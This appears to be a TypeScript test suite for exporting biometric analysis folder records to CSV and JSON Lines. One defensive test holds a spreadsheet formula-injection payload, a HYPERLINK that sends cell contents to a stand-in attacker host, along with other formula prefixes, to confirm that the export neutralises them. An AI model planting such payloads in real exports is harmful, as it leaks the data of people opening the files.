import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import {
  chosenMetaData,
  CSV,
  JSON_LINES,
  writeList,
  type ListFormat,
  type SavedRow,
} from "../../../../src/commands/list/listFile";
import { listRow } from "../../../../src/commands/list/listRow";
import { parseText } from "../../../../src/oz/http/jsonText";
import { readFolder, type OzFolder } from "../../../../src/oz/model/folder";
import { makeFinding } from "../../../../src/status/finding";

const ID = "7e7e7e7e-0000-4000-8000-000000000001";
const FINDINGS = [makeFinding("resultDiffers", "…", []), makeFinding("noAnalyses", "…", [])];

const face = (id: string, score: number, result: string): object => ({
  analysis_id: id,
  group_id: "g",
  type: "BIOMETRY",
  state: "FINISHED",
  resolution_status: result,
  time_created: 1_763_900_000,
  results_data: { min_confidence: score },
  confs: { threshold_max: 0.85, threshold_min: 0.75 },
});

/** @param more members besides, as JSON text */
function folder(members: object = {}, more = ""): OzFolder {
  const json = JSON.stringify({ folder_id: ID, ...members });
  return readFolder(parseText(more === "" ? json : `${json.slice(0, -1)},${more}}`).json)!;
}

const saved = (one: OzFolder, keys: readonly string[] = []): SavedRow => ({
  row: listRow(one, FINDINGS),
  metaData: chosenMetaData(one, keys),
});

function textOf({ head, line }: ListFormat, rows: readonly SavedRow[], keys: readonly string[]): string {
  return [head(keys), ...rows.map((row) => line(row, keys))].join("");
}

/** @returns the row of a folder by column, as a CSV library reads it */
function csvOf(one: OzFolder, keys: readonly string[] = []): Record<string, string> {
  const rows = parse(textOf(CSV, [saved(one, keys)], keys), { bom: true, columns: true });
  assert.equal(rows.length, 1);
  return rows[0] as Record<string, string>;
}

const jsonOf = (one: OzFolder, keys: readonly string[] = []): Record<string, unknown> =>
  JSON.parse(textOf(JSON_LINES, [saved(one, keys)], keys)) as Record<string, unknown>;

const DECLINED = {
  time_created: 1_763_900_000.123,
  resolution_status: "FINISHED",
  system_resolution: "DECLINED",
  operator_status: "SUCCESS",
  analyses: [face("a", 0.9, "SUCCESS"), face("b", 0.41, "DECLINED"), face("c", 0.3, "DECLINED")],
};

describe("a saved list", () => {
  it("has the folder's members, its result and what decided it", () => {
    assert.deepEqual(jsonOf(folder(DECLINED)), {
      folder_id: ID,
      time_created: "2025-11-23T12:13:20.123Z",
      time_updated: null,
      resolution_status: "FINISHED",
      system_resolution: "DECLINED",
      operator_status: "SUCCESS",
      status: "FINISHED",
      result: "DECLINED",
      deciding_analysis: "b",
      deciding_type: "BIOMETRY",
      score: 0.41,
      threshold: 0.85,
      lower_threshold: 0.75,
      findings: ["resultDiffers", "noAnalyses"],
    });
  });

  it("has the same as CSV, with blanks between findings", () => {
    const row = csvOf(folder(DECLINED));
    assert.deepEqual(
      Object.entries(row),
      Object.entries(jsonOf(folder(DECLINED))).map(([column, value]) => [
        column,
        Array.isArray(value) ? value.join(" ") : value === null ? "" : String(value as string | number),
      ]),
    );
  });

  it("computes nothing into members of the server", () => {
    const {
      resolution_status: word,
      system_resolution: result,
      ...ours
    } = jsonOf(folder({ analyses: [face("a", 0.9, "SUCCESS")] }));
    assert.deepEqual([word, result, ours.status, ours.result], [null, null, "FINISHED", "SUCCESS"]);
  });

  it("writes the server's words as they stand", () => {
    assert.equal(csvOf(folder({ ...DECLINED, system_resolution: "declined" })).system_resolution, "declined");
  });

  it("names no deciding analysis if the analyses are not why, or nothing is decided", () => {
    for (const [system, state] of [
      ["SUCCESS", "FINISHED"],
      ["PROCESSING", "PROCESSING"],
    ] as const) {
      const analyses = [face("a", 0.41, "DECLINED"), { ...face("b", 0.9, "SUCCESS"), state }];
      const row = jsonOf(folder({ ...DECLINED, system_resolution: system, analyses }));
      assert.deepEqual([row.deciding_analysis, row.score, row.threshold], [null, null, null]);
    }
  });

  it("has the chosen metadata only, with the types and digits of the server", () => {
    const metaData = `"meta_data": {"order": 9007199254740993, "n": null, "deep": {"a": [1.5, true]}, "secret": "s"}`;
    const one = folder({}, metaData);
    const keys = ["order", "n", "deep", "none"];
    assert.match(
      textOf(JSON_LINES, [saved(one, keys)], keys),
      /,"meta_data":\{"order":9007199254740993,"n":null,"deep":\{"a":\[1\.5,true\]\}\}\}\n$/,
    );
    const row = csvOf(one, keys);
    assert.deepEqual(
      keys.map((key) => row[`meta_data.${key}`]),
      ["9007199254740993", "", '{"a":[1.5,true]}', ""],
    );
    assert.ok(!("meta_data" in jsonOf(one)), "none is chosen by default");
  });

  it("keeps texts of a hostile server from being formulas, in CSV alone", () => {
    const evil = `=HYPERLINK("http://evil.example/?"&A1)`;
    const members = { ...DECLINED, resolution_status: evil, system_resolution: "@SUM(1)" };
    const one = folder({
      ...members,
      meta_data: { [evil]: evil, __proto__: "x", tab: "\t=1", minus: "-1+1" },
    });
    const keys = [evil, "tab", "minus"];
    const row = csvOf(one, keys);
    assert.deepEqual(
      [row.resolution_status, row.system_resolution, row[`meta_data.${evil}`], row["meta_data.minus"]],
      [`'${evil}`, "'@SUM(1)", `'${evil}`, "'-1+1"],
    );
    assert.match(row["meta_data.tab"]!, /^'/);
    assert.deepEqual(jsonOf(one, keys).meta_data, { [evil]: evil, tab: "\t=1", minus: "-1+1" });
  });

  it("writes a metadata key that objects inherit like any other", () => {
    const one = folder({}, `"meta_data": {"__proto__": "x", "toString": "y"}`);
    const keys = ["__proto__", "toString"];
    const row = csvOf(one, keys);
    assert.deepEqual([row["meta_data.__proto__"], row["meta_data.toString"]], ["x", "y"]);
    assert.match(textOf(JSON_LINES, [saved(one, keys)], keys), /\{"__proto__":"x","toString":"y"\}/);
    assert.deepEqual(chosenMetaData(folder({ meta_data: {} }), keys), {});
  });

  it("has one line for each folder in JSON Lines", () => {
    const one = folder({ meta_data: { text: "a\r\nb\u{2028}c" } });
    const lines = textOf(JSON_LINES, [saved(one, ["text"]), saved(one)], ["text"]).split("\n");
    assert.equal(lines.length, 3);
    assert.equal(lines.at(-1), "");
  });

  it("is written whole, in slices", async () => {
    const rows = Array.from({ length: 100 }, (_, index) =>
      saved(folder({ meta_data: { order: index } }), ["order"]),
    );
    let [time, turns] = [0, 0];
    const clock = {
      elapsed: () => (time += 5),
      after: (_delay: number, callback: () => void) => {
        turns += 1;
        callback();
        return () => undefined;
      },
    };
    for (const format of [CSV, JSON_LINES])
      assert.equal(await writeList(format, rows, ["order"], clock), textOf(format, rows, ["order"]));
    assert.ok(turns > 0);
  });
});
